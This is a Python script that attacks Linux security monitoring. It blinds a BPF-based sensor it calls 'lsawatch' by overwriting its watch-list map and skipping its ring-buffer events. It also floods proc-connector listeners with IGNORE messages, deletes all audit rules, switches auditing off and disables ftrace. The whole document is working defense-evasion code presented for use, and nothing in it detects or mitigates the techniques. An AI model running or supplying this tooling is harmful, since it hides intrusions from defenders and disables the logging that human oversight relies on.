#!/usr/bin/python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""Ways to make a sensor silent that stays open; prints "done", or the error's text.

usage: blind.py list|ring PID [SECONDS]   the maps of that lsawatch's BPF programs
       blind.py connector                 for all who listen (before Linux 6.6)
       blind.py rules|off|on              audit: all its rules are deleted, it is switched
       blind.py hooks|unhooks             kernel.ftrace_enabled off, and on
"""

import ctypes
import glob
import mmap
import os
import re
import socket
import struct
import sys
import time

SYS_BPF = 321
MAP_UPDATE_ELEM, MAP_GET_FD_BY_ID = 2, 14
ARRAY, RINGBUF = 2, 27
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def bpf(command, attr):
    text = ctypes.create_string_buffer(attr, 128)
    got = libc.syscall(ctypes.c_long(SYS_BPF), ctypes.c_long(command), text,
                       ctypes.c_long(len(text)))
    if got < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return got


def maps(pid):
    """{(type, frozen): (id, octets of a value, entries)}"""
    found = {}
    for path in glob.glob(f"/proc/{pid}/fdinfo/*"):
        with open(path, encoding="ascii") as file:
            text = file.read()
        if "map_id:" in text:
            have = {name: int(value) for name, value in
                    re.findall(r"^(map_type|map_id|value_size|max_entries|frozen):\s+(\d+)$",
                               text, re.M)}
            found[have["map_type"], have["frozen"]] = (have["map_id"], have["value_size"],
                                                       have["max_entries"])
    return found


def blind_list(pid, _):
    """Whom to watch: nobody."""
    number, size, _ = maps(pid)[ARRAY, 0]
    fd = bpf(MAP_GET_FD_BY_ID, struct.pack("I", number))
    key, value = ctypes.create_string_buffer(4), ctypes.create_string_buffer(size)
    bpf(MAP_UPDATE_ELEM, struct.pack("IIQQQ", fd, 0, ctypes.addressof(key),
                                     ctypes.addressof(value), 0))


def blind_ring(pid, seconds):
    """Whatever is in the ring was read already."""
    number, _, _ = maps(pid)[RINGBUF, 0]
    fd = bpf(MAP_GET_FD_BY_ID, struct.pack("I", number))
    size = mmap.PAGESIZE
    consumer = ctypes.c_uint64.from_buffer(mmap.mmap(fd, size))
    produced = mmap.mmap(fd, size, prot=mmap.PROT_READ, offset=size)
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        for _ in range(1000):
            consumer.value = int.from_bytes(produced[:8], "little")


def blind_connector(_pid, _seconds):
    with socket.socket(socket.AF_NETLINK, socket.SOCK_DGRAM, 11) as s:
        s.bind((0, 0))
        words = struct.pack("=IIIIHHI", 1, 1, 0, 0, 4, 0, 2)  # CN_IDX_PROC, IGNORE
        for _ in range(8):
            s.send(struct.pack("=IHHII", 16 + len(words), 3, 0, 0, 0) + words)


class Audit:
    """What auditctl does, which is not everywhere."""

    GET, SET, LIST, DELETE = 1000, 1001, 1013, 1012

    def __init__(self):
        self.line = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 9)
        self.line.bind((0, 0))
        self.line.settimeout(1)

    def ask(self, kind, data=b""):
        self.line.send(struct.pack("=IHHII", 16 + len(data), kind, 5, kind, 0) + data)

    def answers(self, kind):
        """Data of each message of that kind, until nothing more comes."""
        while True:
            try:
                got = self.line.recv(65536)
            except TimeoutError:
                return
            if struct.unpack_from("=H", got, 4)[0] == kind:
                yield got[16:]


def blind_rules(_pid, _seconds):
    audit = Audit()
    audit.ask(Audit.LIST)
    for rule in list(audit.answers(Audit.LIST)):
        audit.ask(Audit.DELETE, rule)
    assert list(audit.answers(Audit.LIST)) == []


def switch_hooks(to):
    def switch(_pid, _seconds):
        with open("/proc/sys/kernel/ftrace_enabled", "w", encoding="ascii") as file:
            file.write(to)
    return switch


def switch_audit(to):
    def switch(_pid, _seconds):
        Audit().ask(Audit.SET, struct.pack("=II", 1, to) + bytes(40))
    return switch


try:
    pid = int(sys.argv[2]) if len(sys.argv) > 2 else 0
    {"list": blind_list, "ring": blind_ring, "connector": blind_connector, "rules": blind_rules,
     "off": switch_audit(0), "on": switch_audit(1), "hooks": switch_hooks("0"),
     "unhooks": switch_hooks("1")}[sys.argv[1]](
        pid, float(sys.argv[3]) if len(sys.argv) > 3 else 0)
    print("done")
except OSError as e:
    print(e.strerror)
